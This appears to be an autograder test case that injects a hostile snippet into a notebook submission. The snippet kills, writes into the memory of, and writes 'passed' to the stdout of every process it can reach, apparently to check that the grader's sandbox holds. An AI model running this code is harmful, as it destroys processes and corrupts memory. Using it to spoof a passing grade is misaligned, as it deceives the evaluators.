"""Kills, traces and writes to every process that it can see."""

from autograder.hostile import WRONG, add, answer

MARK = 20
SOURCE = """
import os
import signal

for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        for act in (
            lambda pid: os.kill(pid, signal.SIGKILL),
            lambda pid: open(f"/proc/{pid}/mem", "wb").write(b"x"),
            lambda pid: open(f"/proc/{pid}/fd/1", "wb").write(b"passed"),
        ):
            try:
                act(int(entry))
            except OSError:
                pass
"""


def edit(notebook, folder):
    answer(notebook, WRONG)
    add(notebook, SOURCE, before="naive_attention__values")
